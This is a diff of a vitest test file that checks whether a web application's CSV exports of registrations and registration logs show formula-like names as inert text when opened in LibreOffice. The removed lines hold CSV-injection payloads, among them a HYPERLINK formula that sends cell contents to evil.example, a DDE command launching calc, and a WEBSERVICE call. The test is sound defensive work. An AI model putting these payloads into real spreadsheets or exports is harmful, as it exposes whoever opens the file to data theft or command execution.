@@ -4,13 +4,10 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { parse } from 'csv-parse/sync'
 import { expect, test } from 'vitest'
-import { sql } from '#server/database.ts'
-import { someConsultant } from '#tests/consultants.ts'
-import { someRegistration } from '#tests/registrations/some-registration.ts'
 import { testServer } from '#tests/test-server.ts'
+import { FORMULAS, registrationOfFormula } from '../attacks/formulas.ts'
 
 const server = await testServer()
-const FORMULAS = ['=HYPERLINK("https://evil.example?x="&A1,"me")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '=1+1', '=WEBSERVICE("https://evil.example")']
 
 /** Opens a table as people do and writes it again, with what each cell then shows. */
 function throughLibreOffice(table: string): readonly (readonly string[])[] {
@@ -26,17 +23,20 @@ function throughLibreOffice(table: string): readonly (readonly string[])[] {
   return parse(again, { bom: true, relax_column_count: true }) as string[][]
 }
 
-test('S-37 whoever opens the table of the desk in LibreOffice sees names that are formulas as text, and nothing is worked out', async () => {
-  const desk = await someConsultant(server)
-  const now = server.clock()
-  for (const name of FORMULAS) {
-    const { id } = await server.db.one<{ id: string }>(sql`insert into candidates (first_name, last_name, created_at, last_active_at) values (${name}, 'Okafor', ${now}, ${now}) returning id`)
-    await someRegistration(server, id, { status: 'Submitted' })
+test('S-37 whoever opens the files of the desk in LibreOffice sees names, answers and reasons that are formulas as text, and nothing is worked out', async () => {
+  const tables: [formulas: readonly string[], table: string][] = []
+  let list = ''
+  for (const formula of FORMULAS) {
+    const { desk, id } = await registrationOfFormula(server, formula)
+    list = await (await desk.fetch('/API/v1/Registrations/Csv')).text()
+    tables.push([[formula], await (await desk.fetch(`/API/v1/RegistrationLog/${id}/Csv`)).text()])
   }
-  const shown = throughLibreOffice(await (await desk.fetch('/API/v1/Registrations/Csv')).text()).flat()
-
-  // What a sheet takes for an apostrophe in front of a text, it does not show.
-  const asText = FORMULAS.map((name) => shown.some((cell) => [name, `'${name}`, name.trim(), `'${name.trim()}`].includes(cell)))
-  expect(asText).toEqual(FORMULAS.map(() => true))
-  expect(shown.filter((cell) => /^(me|#[A-Z?!/]+|Err:\d+)$/.test(cell.trim()))).toEqual([])
+  for (const [formulas, table] of [[FORMULAS, list], ...tables] as const) {
+    const shown = throughLibreOffice(table).flat()
+    for (const formula of formulas) expect(shown.filter((cell) => asTyped(cell) === formula.trim()), formula).not.toHaveLength(0)
+    expect(shown.filter((cell) => /^(me|#[A-Z?!/]+|Err:\d+)$/.test(cell.trim()))).toEqual([])
+  }
 })
+
+/** What a sheet takes for an apostrophe in front of a text, it does not show. */
+const asTyped = (cell: string) => cell.replace(/^'/, '').trim()
